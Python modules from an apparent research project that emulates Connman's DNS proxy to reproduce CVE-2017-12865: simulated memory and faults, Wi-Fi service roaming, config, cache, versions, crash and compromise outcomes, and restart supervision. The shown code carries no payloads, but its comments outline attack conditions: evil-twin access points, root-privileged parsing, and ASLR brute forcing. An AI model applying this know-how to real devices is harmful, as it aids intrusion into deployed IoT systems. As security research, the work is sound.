        page_gens = self._page_gens
        first = address >> PAGE_SHIFT
        last = (address + length - 1) >> PAGE_SHIFT
        return tuple((page, page_gens.get(page, 0)) for page in range(first, last + 1))

    def _note_write(self, address: int, length: int) -> None:
        """Bump the write generation of every page the write touched."""
        if length <= 0:
            return
        page_gens = self._page_gens
        for page in range(address >> PAGE_SHIFT, ((address + length - 1) >> PAGE_SHIFT) + 1):
            page_gens[page] = page_gens.get(page, 0) + 1

    def is_mapped(self, address: int, length: int = 1) -> bool:
        """True if the whole ``[address, address+length)`` range is mapped."""
        try:
            self._resolve(address, length)
        except UnmappedAddressError:
            return False
        return True

    def _resolve(self, address: int, length: int) -> List[Segment]:
        """Return the segments covering a range, faulting on any gap."""
        if length <= 0:
            return []
        address &= ADDRESS_MASK
        covering: List[Segment] = []
        cursor = address
        end = address + length
        while cursor < end:
            seg = self.segment_at(cursor)
            covering.append(seg)
            cursor = seg.end
        return covering

    # -- byte access ----------------------------------------------------------

    def read(self, address: int, length: int, *, check: bool = True) -> bytes:
        """Read bytes, spanning segment boundaries if mappings are contiguous."""
        address &= ADDRESS_MASK
        chunks = []
        cursor = address
        remaining = length
        for seg in self._resolve(address, length):
            take = min(remaining, seg.end - cursor)
            chunks.append(seg.read(cursor, take, check=check))
            cursor += take
            remaining -= take
        return b"".join(chunks)

    def write(self, address: int, payload: bytes, *, check: bool = True,
              taint=None) -> None:
        """Write bytes, spanning contiguous segments; faults on gaps/permissions.

        ``taint`` is an optional per-byte label sequence (one label set per
        payload byte) consumed by an attached shadow map; when omitted the
        write clears any shadow labels it covers.
        """
        address &= ADDRESS_MASK
        cursor = address
        offset = 0
        covering = self._resolve(address, len(payload))
        # Bump generations before writing: a permission fault mid-span may
        # leave earlier segments modified, and a spurious invalidation is
        # harmless while a missed one would execute stale decodes.
        self._note_write(address, len(payload))
        if self.taint is not None:
            # Same ordering rationale as the generation bump above: a
            # spurious label after a mid-span fault is harmless over-taint,
            # a missed one would hide real attacker data flow.
            if taint is None:
                self.taint.clear_range(address, len(payload))
            else:
                if len(taint) != len(payload):
                    raise ValueError(
                        f"taint labels cover {len(taint)} bytes but the "
                        f"write covers {len(payload)}")
                self.taint.set_range(address, taint)
        for seg in covering:
            take = min(len(payload) - offset, seg.end - cursor)
            seg.write(cursor, payload[offset : offset + take], check=check)
            cursor += take
            offset += take

    def fetch(self, address: int, length: int) -> bytes:
        """Instruction fetch (X-checked) — the W^X enforcement point."""
        address &= ADDRESS_MASK
        chunks = []
        cursor = address
        remaining = length
        for seg in self._resolve(address, length):
            take = min(remaining, seg.end - cursor)
            chunks.append(seg.fetch(cursor, take))
            cursor += take
            remaining -= take
        return b"".join(chunks)

    # -- typed helpers ---------------------------------------------------------

    def read_u8(self, address: int) -> int:
        return self.read(address, 1)[0]

    def read_u16(self, address: int) -> int:
        return struct.unpack("<H", self.read(address, 2))[0]

    def read_u32(self, address: int) -> int:
        return struct.unpack("<I", self.read(address, 4))[0]

    def write_u8(self, address: int, value: int, *, taint=None) -> None:
        self.write(address, bytes([value & 0xFF]), taint=taint)

    def write_u16(self, address: int, value: int, *, taint=None) -> None:
        self.write(address, struct.pack("<H", value & 0xFFFF), taint=taint)

    def write_u32(self, address: int, value: int, *, taint=None) -> None:
        self.write(address, struct.pack("<I", value & ADDRESS_MASK), taint=taint)

    def read_cstring(self, address: int, limit: int = 4096) -> bytes:
        """Read a NUL-terminated string (used by execve/system stubs)."""
        out = bytearray()
        cursor = address
        while len(out) < limit:
            byte = self.read_u8(cursor)
            if byte == 0:
                return bytes(out)
            out.append(byte)
            cursor += 1
        return bytes(out)

    def write_cstring(self, address: int, value: bytes) -> None:
        self.write(address, value + b"\x00")

    # -- search / introspection -------------------------------------------------

    def find(self, needle: bytes, *, segment_names: Optional[Iterable[str]] = None) -> List[int]:
        """Find every occurrence of ``needle`` (the ``-memstr`` primitive)."""
        wanted = set(segment_names) if segment_names is not None else None
        hits: List[int] = []
        for seg in self._segments:
            if wanted is not None and seg.name not in wanted:
                continue
            start = 0
            while True:
                index = seg.data.find(needle, start)
                if index < 0:
                    break
                hits.append(seg.base + index)
                start = index + 1
        return hits

    def maps(self) -> str:
        """Render the mapping table like ``/proc/<pid>/maps``."""
        return "\n".join(seg.describe() for seg in self._segments)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"AddressSpace({len(self._segments)} segments)"
