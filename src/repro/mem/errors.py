"""Fault model for the simulated 32-bit address space.

Every fault a real process can take on the paper's targets is represented by
an exception type here, so exploit outcomes are *observed* (a bad gadget
address raises :class:`SegmentationFault` during emulation) rather than
asserted by the exploit code.
"""

from __future__ import annotations


class MemoryFault(Exception):
    """Base class for all memory-system faults."""

    #: POSIX signal a real process would receive for this fault.
    signal = "SIGSEGV"

    def __init__(self, address: int, message: str = ""):
        self.address = address
        detail = message or self.__class__.__name__
        super().__init__(f"{detail} at address {address:#010x}")


class SegmentationFault(MemoryFault):
    """Access to an unmapped address or a permission the mapping lacks."""


class UnmappedAddressError(SegmentationFault):
    """Access to an address no segment covers."""


class AccessViolation(SegmentationFault):
    """Access to a mapped address without the required permission."""

    def __init__(self, address: int, required: str, message: str = ""):
        self.required = required
        super().__init__(address, message or f"access requires {required}")


class WxViolation(AccessViolation):
    """Instruction fetch from a non-executable page (W^X / DEP / NX)."""

    def __init__(self, address: int, message: str = ""):
        super().__init__(address, "X", message or "W^X: fetch from non-executable memory")


class BusError(MemoryFault):
    """Misaligned access where the architecture requires alignment."""

    signal = "SIGBUS"


class StackOverflowFault(SegmentationFault):
    """Stack pointer ran past the guard page below the stack segment."""
