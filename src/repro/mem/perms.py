"""Page-permission flags for simulated segments."""

from __future__ import annotations

import enum


class Perm(enum.Flag):
    """R/W/X permission bits, combinable like mmap protection flags."""

    NONE = 0
    R = enum.auto()
    W = enum.auto()
    X = enum.auto()
    RW = R | W
    RX = R | X
    RWX = R | W | X

    def describe(self) -> str:
        """Render like the ``perms`` column of ``/proc/<pid>/maps``."""
        return "".join(
            flag_char if flag in self else "-"
            for flag, flag_char in ((Perm.R, "r"), (Perm.W, "w"), (Perm.X, "x"))
        )

    @classmethod
    def parse(cls, text: str) -> "Perm":
        """Parse a ``"rwx"`` / ``"r-x"`` style string."""
        perm = cls.NONE
        mapping = {"r": cls.R, "w": cls.W, "x": cls.X}
        for char in text:
            if char == "-":
                continue
            try:
                perm |= mapping[char.lower()]
            except KeyError:
                raise ValueError(f"unknown permission character {char!r}") from None
        return perm
