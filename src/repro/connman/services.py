"""Connman's service manager: the connection-management half of the daemon.

CVE-2017-12865 lives in the DNS proxy, but Connman's day job is managing
*services* — one per reachable network (Wi-Fi SSID, Ethernet link) — and
walking each through the documented state machine::

    idle -> association -> configuration -> ready -> online
                                        \\-> failure

This module models that lifecycle the way the IoT device uses it: services
are discovered from a radio scan, `autoconnect` picks the preferred one
(type priority, then signal strength — the roaming rule the Pineapple
exploits lives at this layer), association runs the Wi-Fi join + DHCP, and
the online check is a DNS resolution *through the dnsproxy* — which is
exactly how a freshly-joined rogue AP gets its first shot at the parser.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from ..net import AccessPoint, RadioEnvironment, WirelessStation


class ServiceType(enum.Enum):
    ETHERNET = "ethernet"
    WIFI = "wifi"
    CELLULAR = "cellular"
    BLUETOOTH = "bluetooth"


#: Autoconnect preference, highest first (Connman's default ordering).
TYPE_PRIORITY = (ServiceType.ETHERNET, ServiceType.WIFI, ServiceType.CELLULAR,
                 ServiceType.BLUETOOTH)


class ServiceState(enum.Enum):
    IDLE = "idle"
    ASSOCIATION = "association"
    CONFIGURATION = "configuration"
    READY = "ready"
    ONLINE = "online"
    FAILURE = "failure"


@dataclass
class NetworkService:
    """One connectable network as Connman sees it."""

    service_id: str
    service_type: ServiceType
    name: str
    strength: int = 0  # 0-100, derived from dBm for Wi-Fi
    state: ServiceState = ServiceState.IDLE
    access_point: Optional[AccessPoint] = None
    nameservers: List[str] = field(default_factory=list)
    ipv4_address: Optional[str] = None
    error: str = ""

    @property
    def connected(self) -> bool:
        return self.state in (ServiceState.READY, ServiceState.ONLINE)

    def describe(self) -> str:
        return (
            f"{self.service_id} [{self.service_type.value}] {self.name!r} "
            f"strength={self.strength} state={self.state.value}"
        )


def strength_from_dbm(signal_dbm: int) -> int:
    """Map dBm to Connman's 0-100 strength scale (clamped linear)."""
    return max(0, min(100, 2 * (signal_dbm + 100)))


class ServiceManager:
    """Discovers, orders, and connects services for one device."""

    def __init__(self, station: WirelessStation,
                 online_check: Optional[Callable[[], bool]] = None):
        self.station = station
        self.online_check = online_check
        self._services: Dict[str, NetworkService] = {}
        self.current: Optional[NetworkService] = None

    # -- discovery ---------------------------------------------------------------

    def scan_wifi(self, radio: RadioEnvironment) -> List[NetworkService]:
        """Refresh Wi-Fi services from the air; stale entries disappear."""
        seen: Dict[str, NetworkService] = {}
        for ap in radio.scan():
            service_id = f"wifi_{ap.bssid.replace(':', '')}_{ap.ssid}"
            existing = self._services.get(service_id)
            if existing is not None:
                existing.strength = strength_from_dbm(ap.signal_dbm)
                existing.access_point = ap
                seen[service_id] = existing
            else:
                seen[service_id] = NetworkService(
                    service_id=service_id,
                    service_type=ServiceType.WIFI,
                    name=ap.ssid,
                    strength=strength_from_dbm(ap.signal_dbm),
                    access_point=ap,
                )
        # Keep non-wifi services (e.g. ethernet), replace the wifi set.
        kept = {
            sid: svc for sid, svc in self._services.items()
            if svc.service_type is not ServiceType.WIFI
        }
        kept.update(seen)
        self._services = kept
        if self.current is not None and self.current.service_id not in self._services:
            self.current.state = ServiceState.IDLE
            self.current = None
        return self.services()

    def add_ethernet(self, name: str = "Wired") -> NetworkService:
        service = NetworkService(
            service_id=f"ethernet_{name.lower()}",
            service_type=ServiceType.ETHERNET,
            name=name,
            strength=100,
        )
        self._services[service.service_id] = service
        return service

    def services(self) -> List[NetworkService]:
        """All services in autoconnect order."""
        return sorted(
            self._services.values(),
            key=lambda svc: (TYPE_PRIORITY.index(svc.service_type), -svc.strength),
        )

    def service(self, service_id: str) -> NetworkService:
        try:
            return self._services[service_id]
        except KeyError:
            raise KeyError(f"no service {service_id!r}") from None

    # -- lifecycle -----------------------------------------------------------------

    def connect(self, service: NetworkService) -> NetworkService:
        """Walk one service through the state machine."""
        if service.service_type is not ServiceType.WIFI:
            raise ValueError(f"only wifi connect is modeled, not {service.service_type}")
        if service.access_point is None:
            service.state = ServiceState.FAILURE
            service.error = "no access point"
            return service
        service.state = ServiceState.ASSOCIATION
        try:
            service.state = ServiceState.CONFIGURATION
            record = self.station.associate(service.access_point)
        except RuntimeError as why:  # DHCP pool exhausted etc.
            service.state = ServiceState.FAILURE
            service.error = str(why)
            return service
        service.ipv4_address = record.ip
        service.nameservers = [record.dns_server]
        if self.current is not None and self.current is not service:
            self.current.state = ServiceState.IDLE
        service.state = ServiceState.READY
        self.current = service
        if self.online_check is not None and self.online_check():
            service.state = ServiceState.ONLINE
        return service

    def autoconnect(self) -> Optional[NetworkService]:
        """Connect the preferred service if it isn't the current one.

        This is the roaming decision the evil twin wins: a stronger AP for
        a known SSID produces a higher-strength service that outranks the
        current association.
        """
        known = {ssid for ssid in self.station.known_ssids}
        candidates = [
            svc for svc in self.services()
            if svc.service_type is not ServiceType.WIFI or svc.name in known
        ]
        if not candidates:
            return None
        best = candidates[0]
        if best is self.current and self.current.connected:
            return None
        return self.connect(best)

    def disconnect(self) -> None:
        if self.current is not None:
            self.current.state = ServiceState.IDLE
            self.current = None

    def describe(self) -> str:
        lines = ["services (autoconnect order):"]
        for service in self.services():
            marker = "*" if service is self.current else " "
            lines.append(f" {marker} {service.describe()}")
        return "\n".join(lines)
