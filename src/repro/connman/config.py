"""Connman ``main.conf`` parsing and the settings this model honors.

Real deployments tune Connman through an INI-style ``main.conf``; the
fields modeled here are the ones that matter to the attack surface:

* ``FallbackNameservers`` — resolvers used when DHCP supplies none, i.e.
  one more place an upstream an attacker might control comes from;
* ``EnableOnlineCheck`` — whether a freshly-connected service immediately
  performs a DNS lookup (the §III-D first-shot window);
* ``AllowHostnameUpdates`` / ``SingleConnectedTechnology`` — parsed for
  completeness and surfaced to the service manager.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple


class MainConfError(ValueError):
    """main.conf could not be parsed."""


@dataclass(frozen=True)
class MainConf:
    fallback_nameservers: Tuple[str, ...] = ()
    enable_online_check: bool = True
    allow_hostname_updates: bool = True
    single_connected_technology: bool = False
    #: Every (section, key) -> raw value, for settings we don't interpret.
    raw: Dict[Tuple[str, str], str] = field(default_factory=dict)

    def describe(self) -> str:
        fallback = ",".join(self.fallback_nameservers) or "(none)"
        return (
            f"FallbackNameservers={fallback} "
            f"EnableOnlineCheck={self.enable_online_check} "
            f"SingleConnectedTechnology={self.single_connected_technology}"
        )


DEFAULT_MAIN_CONF = MainConf()

_BOOL = {"true": True, "false": False, "1": True, "0": False,
         "yes": True, "no": False}


def _parse_bool(value: str, key: str) -> bool:
    try:
        return _BOOL[value.strip().lower()]
    except KeyError:
        raise MainConfError(f"{key}: expected a boolean, got {value!r}") from None


def parse_main_conf(text: str) -> MainConf:
    """Parse the INI subset connman's main.conf uses."""
    section = ""
    raw: Dict[Tuple[str, str], str] = {}
    for line_number, raw_line in enumerate(text.splitlines(), start=1):
        line = raw_line.strip()
        if not line or line.startswith(("#", ";")):
            continue
        if line.startswith("[") and line.endswith("]"):
            section = line[1:-1].strip()
            continue
        key, separator, value = line.partition("=")
        if not separator:
            raise MainConfError(f"line {line_number}: expected key=value, got {line!r}")
        raw[(section, key.strip())] = value.strip()

    fallback: List[str] = []
    for entry in raw.get(("General", "FallbackNameservers"), "").split(","):
        entry = entry.strip()
        if entry:
            fallback.append(entry)
    return MainConf(
        fallback_nameservers=tuple(fallback),
        enable_online_check=_parse_bool(
            raw.get(("General", "EnableOnlineCheck"), "true"), "EnableOnlineCheck"
        ),
        allow_hostname_updates=_parse_bool(
            raw.get(("General", "AllowHostnameUpdates"), "true"), "AllowHostnameUpdates"
        ),
        single_connected_technology=_parse_bool(
            raw.get(("General", "SingleConnectedTechnology"), "false"),
            "SingleConnectedTechnology",
        ),
        raw=raw,
    )
