"""Connman's DNS-proxy cache (the feature the vulnerable code path serves).

CVE-2017-12865 lives in the code that expands a compressed name *in order to
cache* type A / AAAA responses — so the cache is part of the faithful model:
a successfully parsed reply lands here and later client queries are answered
without touching the upstream server.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional


@dataclass
class CacheEntry:
    name: str
    address: str
    ttl: int
    stored_at: float


class DnsCache:
    """Name -> address cache with simulated-clock TTL expiry."""

    def __init__(self, max_entries: int = 256):
        self.max_entries = max_entries
        self._entries: Dict[str, CacheEntry] = {}
        self._clock = 0.0

    def advance(self, seconds: float) -> None:
        """Advance the simulated clock (tests drive expiry this way)."""
        self._clock += seconds

    def put(self, name: str, address: str, ttl: int = 300) -> None:
        if len(self._entries) >= self.max_entries and name.lower() not in self._entries:
            self._evict_one()
        self._entries[name.lower()] = CacheEntry(
            name=name, address=address, ttl=ttl, stored_at=self._clock
        )

    def _evict_one(self) -> None:
        oldest = min(self._entries.values(), key=lambda entry: entry.stored_at)
        del self._entries[oldest.name.lower()]

    def get(self, name: str) -> Optional[str]:
        entry = self._entries.get(name.lower())
        if entry is None:
            return None
        if self._clock - entry.stored_at > entry.ttl:
            del self._entries[name.lower()]
            return None
        return entry.address

    def get_stale(self, name: str) -> Optional[str]:
        """Serve-stale lookup: a TTL-expired entry is better than no answer."""
        entry = self._entries.get(name.lower())
        return entry.address if entry is not None else None

    def __len__(self) -> int:
        return len(self._entries)

    def clear(self) -> None:
        self._entries.clear()
