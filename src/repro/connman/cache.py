"""Connman's DNS-proxy cache (the feature the vulnerable code path serves).

CVE-2017-12865 lives in the code that expands a compressed name *in order to
cache* type A / AAAA responses — so the cache is part of the faithful model:
a successfully parsed reply lands here and later client queries are answered
without touching the upstream server.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Dict, Optional

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector


@dataclass
class CacheEntry:
    name: str
    address: str
    ttl: int
    stored_at: float


class DnsCache:
    """Name -> address cache with simulated-clock TTL expiry."""

    def __init__(self, max_entries: int = 256,
                 observer: Optional["Collector"] = None):
        self.max_entries = max_entries
        self.observer = observer
        self._entries: Dict[str, CacheEntry] = {}
        self._clock = 0.0

    def _note(self, kind: str, name: str) -> None:
        if self.observer is not None:
            self.observer.emit("cache", f"cache.{kind}", name=name)
            self.observer.inc(f"cache.{kind}")

    def advance(self, seconds: float) -> None:
        """Advance the simulated clock (tests drive expiry this way)."""
        self._clock += seconds

    def _expired(self, entry: CacheEntry) -> bool:
        return self._clock - entry.stored_at > entry.ttl

    def put(self, name: str, address: str, ttl: int = 300) -> None:
        if len(self._entries) >= self.max_entries and name.lower() not in self._entries:
            self._evict_one()
        self._entries[name.lower()] = CacheEntry(
            name=name, address=address, ttl=ttl, stored_at=self._clock
        )
        self._note("put", name.lower())

    def _evict_one(self) -> None:
        """Make room for one entry: a dead entry beats a live one.

        A TTL-expired entry is already useless (``get`` would delete it
        on touch), so evicting the oldest *expired* entry first keeps
        every still-valid answer cached; only when the whole table is
        live does the oldest live entry go.
        """
        expired = [entry for entry in self._entries.values() if self._expired(entry)]
        pool = expired or self._entries.values()
        victim = min(pool, key=lambda entry: entry.stored_at)
        del self._entries[victim.name.lower()]
        self._note("evict", victim.name.lower())

    def get(self, name: str) -> Optional[str]:
        entry = self._entries.get(name.lower())
        if entry is None:
            self._note("miss", name.lower())
            return None
        if self._expired(entry):
            del self._entries[name.lower()]
            self._note("expire", name.lower())
            return None
        self._note("hit", name.lower())
        return entry.address

    def get_stale(self, name: str) -> Optional[str]:
        """Serve-stale lookup: a TTL-expired entry is better than no answer."""
        entry = self._entries.get(name.lower())
        if entry is not None:
            self._note("stale", name.lower())
        return entry.address if entry is not None else None

    def __len__(self) -> int:
        return len(self._entries)

    def clear(self) -> None:
        self._entries.clear()
