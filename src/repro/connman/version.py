"""Connman version model and the CVE-2017-12865 fix boundary."""

from __future__ import annotations

from dataclasses import dataclass
from functools import total_ordering
from typing import Tuple

#: The dnsproxy bounds-check fix landed in this release (August 2017).
FIXED_IN = (1, 35)

CVE_ID = "CVE-2017-12865"


@total_ordering
@dataclass(frozen=True)
class ConnmanVersion:
    major: int
    minor: int

    @classmethod
    def parse(cls, text: str) -> "ConnmanVersion":
        parts = text.strip().split(".")
        if len(parts) < 2:
            raise ValueError(f"bad connman version {text!r}")
        try:
            return cls(major=int(parts[0]), minor=int(parts[1]))
        except ValueError:
            raise ValueError(f"bad connman version {text!r}") from None

    @property
    def tuple(self) -> Tuple[int, int]:
        return (self.major, self.minor)

    @property
    def is_vulnerable(self) -> bool:
        """True for 1.34 and below — every release before the 2017-08 patch."""
        return self.tuple < FIXED_IN

    def __eq__(self, other: object) -> bool:
        if isinstance(other, str):
            other = ConnmanVersion.parse(other)
        if not isinstance(other, ConnmanVersion):
            return NotImplemented
        return self.tuple == other.tuple

    def __hash__(self) -> int:
        return hash(self.tuple)

    def __lt__(self, other: "ConnmanVersion") -> bool:
        if isinstance(other, str):
            other = ConnmanVersion.parse(other)
        return self.tuple < other.tuple

    def __str__(self) -> str:
        return f"{self.major}.{self.minor}"


#: Releases referenced by the paper's firmware survey.
KNOWN_VERSIONS = tuple(
    ConnmanVersion(1, minor) for minor in range(24, 38)
)
LAST_VULNERABLE = ConnmanVersion(1, 34)
FIRST_FIXED = ConnmanVersion(*FIXED_IN)
