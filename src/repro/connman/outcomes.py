"""Observable daemon outcomes for one handled DNS reply."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from ..cpu import ExecutionResult, SpawnRecord


class EventKind(enum.Enum):
    """What happened when the daemon processed one upstream reply."""

    RESPONDED = "responded"      # parsed, cached, answered the client
    DROPPED = "dropped"          # malformed/suspicious reply discarded
    CRASHED = "crashed"          # the DoS outcome (SIGSEGV/SIGABRT/SIGILL)
    COMPROMISED = "compromised"  # the RCE outcome: attacker-controlled exec
    HUNG = "hung"                # runaway control flow, killed by budget


@dataclass
class DaemonEvent:
    kind: EventKind
    detail: str = ""
    signal: Optional[str] = None
    spawn: Optional[SpawnRecord] = None
    cached: List[Tuple[str, str]] = field(default_factory=list)
    execution: Optional[ExecutionResult] = None

    @property
    def is_root_shell(self) -> bool:
        return self.spawn is not None and self.spawn.is_root_shell

    @property
    def is_dos(self) -> bool:
        return self.kind in (EventKind.CRASHED, EventKind.HUNG)

    def describe(self) -> str:
        text = self.kind.value
        if self.signal:
            text += f" ({self.signal})"
        if self.spawn is not None:
            text += f" -> {self.spawn.path} uid={self.spawn.uid}"
        if self.detail:
            text += f": {self.detail}"
        return text
