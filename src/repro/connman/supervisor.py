"""systemd-style supervision of the Connman daemon.

On a real IoT device connmand does not restart itself — init does, and
*how* it restarts matters to both sides of the paper.  For the defender,
restart backoff plus a start-limit turns a crash-looping daemon into a
stopped daemon instead of an infinite retry oracle; for the attacker, the
same knobs rate-limit the ASLR brute force of §VI (every wrong guess
costs a crash, every crash costs a restart, and the restart budget is
finite).

:class:`DaemonSupervisor` models ``Restart=on-failure`` with
``RestartSec`` exponential backoff and ``StartLimitBurst`` /
``StartLimitIntervalSec`` semantics over a virtual clock.  Each restart
goes through :meth:`ConnmanDaemon.boot`, so ASLR re-randomizes and the
canary/ret-guard keys are redrawn — exactly the fork+exec behavior the
brute-force math assumes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, List, Optional

from .daemon import ConnmanDaemon

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector


@dataclass(frozen=True)
class RestartRecord:
    """One supervised restart: when, after what backoff, which boot."""

    at: float
    backoff: float
    boot: int


class DaemonSupervisor:
    """Watch one daemon; restart on crash until the start-limit trips."""

    def __init__(
        self,
        daemon: ConnmanDaemon,
        *,
        restart_delay: float = 1.0,
        backoff_factor: float = 2.0,
        max_delay: float = 64.0,
        start_limit_burst: int = 5,
        start_limit_interval: float = 300.0,
        observer: Optional["Collector"] = None,
    ):
        self.daemon = daemon
        self.observer = observer if observer is not None else daemon.observer
        self.restart_delay = restart_delay
        self.backoff_factor = backoff_factor
        self.max_delay = max_delay
        self.start_limit_burst = start_limit_burst
        self.start_limit_interval = start_limit_interval
        self.clock = 0.0
        self.gave_up = False
        self.total_downtime = 0.0
        self.restarts: List[RestartRecord] = []
        self._delay = restart_delay

    # -- time -------------------------------------------------------------------

    def tick(self, seconds: float = 1.0) -> None:
        """Advance the virtual clock (healthy service time)."""
        self.clock += seconds
        if self.observer is not None:
            self.observer.advance_to(self.clock)
        self._maybe_reset_backoff()

    def _maybe_reset_backoff(self) -> None:
        last = self.restarts[-1].at if self.restarts else 0.0
        if self.clock - last >= self.start_limit_interval:
            self._delay = self.restart_delay

    # -- supervision ------------------------------------------------------------

    def ensure_running(self) -> bool:
        """Restart the daemon if it crashed; False once the start-limit hit.

        Mirrors systemd: restarts inside the rolling
        ``start_limit_interval`` window are counted, and the burst cap
        puts the unit into a permanent failed state ("start request
        repeated too quickly").
        """
        if self.gave_up:
            return False
        if self.daemon.alive:
            self._maybe_reset_backoff()
            return True
        recent = [record for record in self.restarts
                  if self.clock - record.at < self.start_limit_interval]
        if len(recent) >= self.start_limit_burst:
            self.gave_up = True
            if self.observer is not None:
                self.observer.emit("daemon", "supervisor.start_limit",
                                   name=self.daemon.name,
                                   restarts=len(self.restarts))
                self.observer.inc("supervisor.start_limit")
            return False
        self.clock += self._delay
        self.total_downtime += self._delay
        if self.observer is not None:
            self.observer.advance_to(self.clock)
        self.daemon.restart()  # fresh ASLR draw, fresh canary
        self.restarts.append(
            RestartRecord(at=self.clock, backoff=self._delay, boot=self.daemon.boots)
        )
        if self.observer is not None:
            self.observer.emit("daemon", "supervisor.restart",
                               name=self.daemon.name, backoff_s=self._delay,
                               boot=self.daemon.boots)
            self.observer.inc("supervisor.restarts")
            self.observer.observe("supervisor.backoff_s", self._delay)
        self._delay = min(self._delay * self.backoff_factor, self.max_delay)
        return True

    # -- observability ----------------------------------------------------------

    @property
    def restart_count(self) -> int:
        return len(self.restarts)

    def availability(self) -> float:
        """Uptime fraction over the virtual clock (1.0 before any downtime)."""
        if self.clock <= 0.0:
            return 1.0
        return max(0.0, 1.0 - self.total_downtime / self.clock)

    def describe(self) -> str:
        state = (
            "start-limit hit, unit failed" if self.gave_up
            else ("running" if self.daemon.alive else "down")
        )
        return (
            f"supervisor[{self.daemon.name}]: {state}, "
            f"{self.restart_count} restarts, next delay {self._delay:.1f}s, "
            f"availability {self.availability():.3f}"
        )
