"""Simulated Connman: versions, vulnerable dnsproxy, daemon lifecycle."""

from .cache import CacheEntry, DnsCache
from .config import DEFAULT_MAIN_CONF, MainConf, MainConfError, parse_main_conf
from .gueststore import GuestBackedDnsCache
from .daemon import ConnmanDaemon, Transport
from .dnsproxy import DnsProxyCore, FramePlacement, MAX_POINTER_JUMPS
from .supervisor import DaemonSupervisor, RestartRecord
from .frames import ARM_FRAME, FRAME_MODELS, NAME_BUFFER_SIZE, X86_FRAME, FrameModel, frame_model
from .outcomes import DaemonEvent, EventKind
from .services import (
    NetworkService,
    ServiceManager,
    ServiceState,
    ServiceType,
    strength_from_dbm,
)
from .version import (
    CVE_ID,
    FIRST_FIXED,
    FIXED_IN,
    KNOWN_VERSIONS,
    LAST_VULNERABLE,
    ConnmanVersion,
)

__all__ = [
    "ARM_FRAME",
    "CacheEntry",
    "ConnmanDaemon",
    "ConnmanVersion",
    "CVE_ID",
    "DaemonEvent",
    "DaemonSupervisor",
    "DnsCache",
    "DEFAULT_MAIN_CONF",
    "GuestBackedDnsCache",
    "MainConf",
    "MainConfError",
    "parse_main_conf",
    "DnsProxyCore",
    "EventKind",
    "FIRST_FIXED",
    "FIXED_IN",
    "FRAME_MODELS",
    "frame_model",
    "FrameModel",
    "FramePlacement",
    "KNOWN_VERSIONS",
    "LAST_VULNERABLE",
    "MAX_POINTER_JUMPS",
    "NAME_BUFFER_SIZE",
    "NetworkService",
    "RestartRecord",
    "ServiceManager",
    "Transport",
    "ServiceState",
    "ServiceType",
    "strength_from_dbm",
    "X86_FRAME",
]
