"""The Connman daemon: boot, DNS-proxy service loop, crash/compromise state.

One :class:`ConnmanDaemon` owns one emulated process per boot.  Booting
draws a fresh memory layout (so ASLR re-randomizes on every restart, like
``fork``+``exec`` on the real device) and reinstalls the per-boot canary.
The daemon runs as root — "Connman natively runs with root permissions, so
no permission change is required" (§III).
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Callable, List, Optional, Union

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector

from ..binfmt import LoadedProcess, build_connman, build_libc, load_process
from ..cpu import NativeFunction
from ..cpu.events import _EmulationStop
from ..defenses import NONE, ProtectionProfile, ReturnAddressGuard, ShadowStackCfi, StackCanary
from ..dns import Message, ResilientResolver, ResourceRecord, make_response
from ..mem import AslrPolicy
from .cache import DnsCache
from .dnsproxy import DnsProxyCore
from .frames import frame_model
from .gueststore import GuestBackedDnsCache
from .outcomes import DaemonEvent, EventKind
from .version import ConnmanVersion

#: Transport callable: query bytes -> reply bytes (or None on drop/timeout).
Transport = Callable[[bytes], Optional[bytes]]


def _resume_stop(_ctx):
    raise _EmulationStop("daemon-continue", "returned to dnsproxy event loop")


class ConnmanDaemon:
    """A bootable, exploitable, restartable Connman instance."""

    def __init__(
        self,
        arch: str = "x86",
        version: Union[str, ConnmanVersion] = "1.34",
        profile: ProtectionProfile = NONE,
        rng: Optional[random.Random] = None,
        name: str = "connmand",
        observer: Optional["Collector"] = None,
    ):
        self.arch = arch
        self.observer = observer
        self.version = (
            version if isinstance(version, ConnmanVersion) else ConnmanVersion.parse(version)
        )
        self.profile = profile
        self.rng = rng or random.Random(0xC0111)
        self.name = name
        self.binary = build_connman(arch, str(self.version), seed=profile.diversity_seed)
        self.libc_image = build_libc(arch)
        self.frame = frame_model(arch)
        #: Replaced with a guest-memory-backed store at every boot; the
        #: host-dict fallback only exists until the first boot() runs.
        self.cache = DnsCache()
        self.events: List[DaemonEvent] = []
        self.boots = 0
        self.crashed = False
        self._pending_id: Optional[int] = None
        self.loaded: Optional[LoadedProcess] = None
        self.proxy: Optional[DnsProxyCore] = None
        self.boot()

    # -- lifecycle -------------------------------------------------------------

    def boot(self) -> None:
        """(Re)start the daemon: fresh process, fresh ASLR draw, fresh canary."""
        layout = AslrPolicy(
            enabled=self.profile.aslr,
            libc_slide_pages=self.profile.aslr_entropy_pages,
        ).instantiate(self.arch, self.rng)
        self.loaded = load_process(
            self.binary,
            self.libc_image,
            layout,
            wx_enabled=self.profile.wx,
            uid=0,  # root, as shipped
            name=self.name,
        )
        self.loaded.process.register_native(
            self.loaded.address_of("dnsproxy_resume"),
            NativeFunction("dnsproxy_resume", _resume_stop),
        )
        # Emulator runs over this process flush decode-cache counters here.
        self.loaded.process.observer = self.observer
        if self.observer is not None and self.observer.profiler is not None:
            # Profiled boot: the emulator attributes cost through the
            # collector's profiler, and stack samples symbolize against
            # *this* boot's tables (ASLR re-slides libc every boot).
            self.loaded.process.profiler = self.observer.profiler
            self.observer.profiler.register_symbols(self.loaded)
        if self.observer is not None and getattr(self.observer, "taint", None) is not None:
            # Tainted boot: a fresh shadow map over this boot's address
            # space (the provenance record itself is cumulative).
            self.observer.taint.attach_process(self.loaded.process)
        canary = StackCanary(self.rng) if self.profile.canary else None
        ret_guard = ReturnAddressGuard(self.rng) if self.profile.ret_guard else None
